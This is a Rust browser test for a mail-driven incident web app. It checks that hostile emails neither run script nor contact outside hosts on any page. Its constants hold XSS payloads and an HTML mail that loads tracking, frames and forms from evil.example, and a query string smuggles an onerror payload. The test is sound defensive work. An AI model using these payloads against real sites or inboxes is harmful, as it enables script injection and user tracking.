//! T23: mails that want to be a program, on every page, in a browser that would run it.

use nightcall::http::pages;
use reqwest::Method;
use serde_json::{Value, json};

use super::{Browser, DESK, browser};
use crate::pages::{ask, cookie, filled, staffed};
use crate::world::World;

/// What stands in a subject, a name, a header and a text; each would open a dialog or ask elsewhere.
const MARKUP: [&str; 8] = [
    "<script>alert(1)</script>",
    "\"><img src=x onerror=alert(2)>",
    "'><svg/onload=alert(3)>",
    "</title></textarea></style><script src=//evil.example/4></script>",
    "{{ alert(5) }} ${alert(5)} <%= alert(5) %>",
    "<a hx-get=//evil.example/6 hx-trigger=load>x</a>",
    "javascript:alert(7)//",
    "<iframe srcdoc='<script>parent.alert(8)</script>'></iframe>",
];

/// A mail's own HTML, which is shown in a frame.
const HTML: &str = "<!doctype html><html><head><base href=\"https://evil.example/\">\
    <meta http-equiv=\"refresh\" content=\"0;url=https://evil.example/refresh\">\
    <meta http-equiv=\"Content-Security-Policy\" content=\"report-uri https://evil.example/report\">\
    <link rel=\"stylesheet\" href=\"https://evil.example/a.css\"><link rel=\"dns-prefetch\" href=\"//evil.example\">\
    <link rel=\"preload\" as=\"image\" href=\"https://evil.example/p.png\"><link rel=\"icon\" href=\"https://evil.example/i\">\
    <style>@import url(https://evil.example/b.css); body { background: url(https://evil.example/bg.png) }\
    @font-face { font-family: x; src: url(https://evil.example/f.woff) } p { font-family: x }</style></head>\
    <body onload=\"alert(10)\" background=\"https://evil.example/body.png\"><script>alert(11);top.alert(12)</script>\
    <p style=\"background:url(https://evil.example/s.png)\">text</p><img src=\"https://evil.example/track.gif\" onerror=\"alert(13)\">\
    <img srcset=\"https://evil.example/2x.png 2x\"><picture><source srcset=\"https://evil.example/w.webp\"><img></picture>\
    <svg onload=\"alert(14)\"><image href=\"https://evil.example/svg.png\"/><use href=\"https://evil.example/u.svg#a\"/></svg>\
    <video src=\"https://evil.example/v.mp4\" poster=\"https://evil.example/v.png\" autoplay></video><audio src=\"https://evil.example/a.mp3\" autoplay></audio>\
    <iframe src=\"https://evil.example/frame\"></iframe><object data=\"https://evil.example/o\"></object><embed src=\"https://evil.example/e\">\
    <form action=\"https://evil.example/form\"><input autofocus onfocus=\"alert(15)\"><button>Sign in</button></form>\
    <a href=\"javascript:alert(16)\" ping=\"https://evil.example/ping\">link</a><details open ontoggle=\"alert(17)\">x</details>\
    <math><maction actiontype=\"statusline#https://evil.example/\">x</maction></math></body></html>";

/// Notes in a page what its policy forbids. A frame with a mail's own HTML runs no script, and its policy is not the page's.
const NOTE_REFUSALS: &str = "if (window === top) { window.refused = []; \
    document.addEventListener('securitypolicyviolation', one => window.refused.push(`${one.violatedDirective} ${one.blockedURI}`)); }";

#[tokio::test]
async fn hostile_mail_does_nothing_on_any_page() {
    let mut world = staffed().await;
    let Some(browser) = browser(&world).await else { return };
    let admin = cookie(&world, "ada").await;
    let mails = send(&mut world, &admin).await;
    while world.phone.ringing().is_some() {}
    browser.has(&admin).await;
    browser.wear(DESK, "light").await;
    // What the browser has loaded for its own first page.
    browser.log("performance").await;
    browser.devtools("Page.addScriptToEvaluateOnNewDocument", json!({ "source": NOTE_REFUSALS })).await;
    // What it would look like.
    browser.go("/incidents").await;
    browser.js("new Image().src = 'https://evil.example/proof'").await;
    browser.until("window.refused[0] === 'img-src https://evil.example/proof'").await;
    let mut visited = 0;
    for route in pages::routes().iter().filter(|route| route.method == Method::GET) {
        // A stream never ends, and a download is no page.
        if route.path == "/events" || is_download(&world, &filled(route.path, &mails[0]), &admin).await {
            continue;
        }
        let is_of_one = route.path.contains("{mail}") || route.path.contains("{number}");
        for (number, mail) in mails.iter().enumerate().take(if is_of_one { mails.len() } else { 1 }) {
            let path = filled(&route.path.replace("{number}", &(number + 1).to_string()), mail);
            let query = if is_of_one {
                ""
            } else {
                "?text=%22%3E%3Cimg%20src%3Dx%20onerror%3Dalert(20)%3E&status=all&next=javascript:alert(21)"
            };
            browser.go(&format!("{path}{query}")).await;
            browser.js("document.querySelectorAll('details').forEach(one => one.open = true)").await;
            assert!(browser.client.get_alert_text().await.is_err(), "{path} opens a dialog");
            if !route.path.ends_with("/html") {
                let refused = browser.js("return window.refused").await;
                assert_eq!(refused, json!([]), "{path}{query} wants what its policy forbids");
            }
            visited += 1;
        }
    }
    assert!(visited > 30, "{visited} pages");
    // Frames load late; the last word is theirs.
    tokio::time::sleep(std::time::Duration::from_secs(1)).await;
    assert!(browser.client.get_alert_text().await.is_err(), "a dialog");

    let asked = nobody_else_is_asked(&browser).await;
    assert!(asked > visited, "the log has what was asked: {asked}");
    println!("{visited} pages with hostile mail, {asked} requests");
    browser.close().await;
}

/// An incident, and a note to it, for each of the texts; the ids of their mails.
async fn send(world: &mut World, admin: &str) -> Vec<String> {
    let mut mails = Vec::new();
    for (number, markup) in MARKUP.iter().enumerate() {
        let raw = format!(
            "Subject: {markup} is CRITICAL\r\nFrom: \"{}\" <{number}@b.example>\r\nX-Odd: {markup}\r\nMIME-Version: 1.0\r\n\
             Content-Type: multipart/alternative; boundary=b\r\n\r\n--b\r\nContent-Type: text/plain\r\n\r\n{markup} \u{202e}\r\n\
             --b\r\nContent-Type: text/html\r\n\r\n{HTML}\r\n--b--\r\n",
            markup.replace('"', "'")
        );
        mails.push(world.mail("db@alerts.example.com", raw.as_bytes()).await);
        let note = [("text", *markup)];
        let noted = ask(world, Method::POST, &format!("/incidents/{}/note", number + 1), Some(admin), &note).await;
        assert_eq!(noted.status(), 303, "each of them is an incident of its own");
    }
    mails
}

/// Every request that left the browser was to the gateway; how many there were.
async fn nobody_else_is_asked(browser: &Browser) -> usize {
    let (mut asked, mut stopped) = (Vec::new(), Vec::new());
    for entry in browser.log("performance").await {
        let entry: Value = serde_json::from_str(entry["message"].as_str().expect("text")).expect("JSON");
        let (method, told) = (entry["message"]["method"].clone(), &entry["message"]["params"]);
        let id = told["requestId"].as_str().unwrap_or_default().to_owned();
        if method == "Network.requestWillBeSent" {
            asked.push((id, told["request"]["url"].as_str().expect("an address").to_owned()));
        } else if method == "Network.loadingFailed" && told["blockedReason"].is_string() {
            // By a policy, or because no site may ask another for that: it never left.
            stopped.push(id);
        }
    }
    let ours = [browser.origin.as_str(), "data:", "about:", "chrome:"];
    let is_ours = |url: &str| ours.iter().any(|ours| url.starts_with(ours));
    let outside: Vec<_> = asked.iter().filter(|(id, url)| !is_ours(url) && !stopped.contains(id)).collect();
    assert!(outside.is_empty(), "asked elsewhere: {outside:?}");
    println!("{} requests were stopped in the browser", stopped.len());
    asked.len()
}

async fn is_download(world: &World, path: &str, cookie: &str) -> bool {
    let answer = ask(world, Method::GET, path, Some(cookie), &[]).await;
    let disposition = answer.headers().get("content-disposition").and_then(|value| value.to_str().ok());
    disposition.is_some_and(|disposition| disposition.starts_with("attachment"))
}
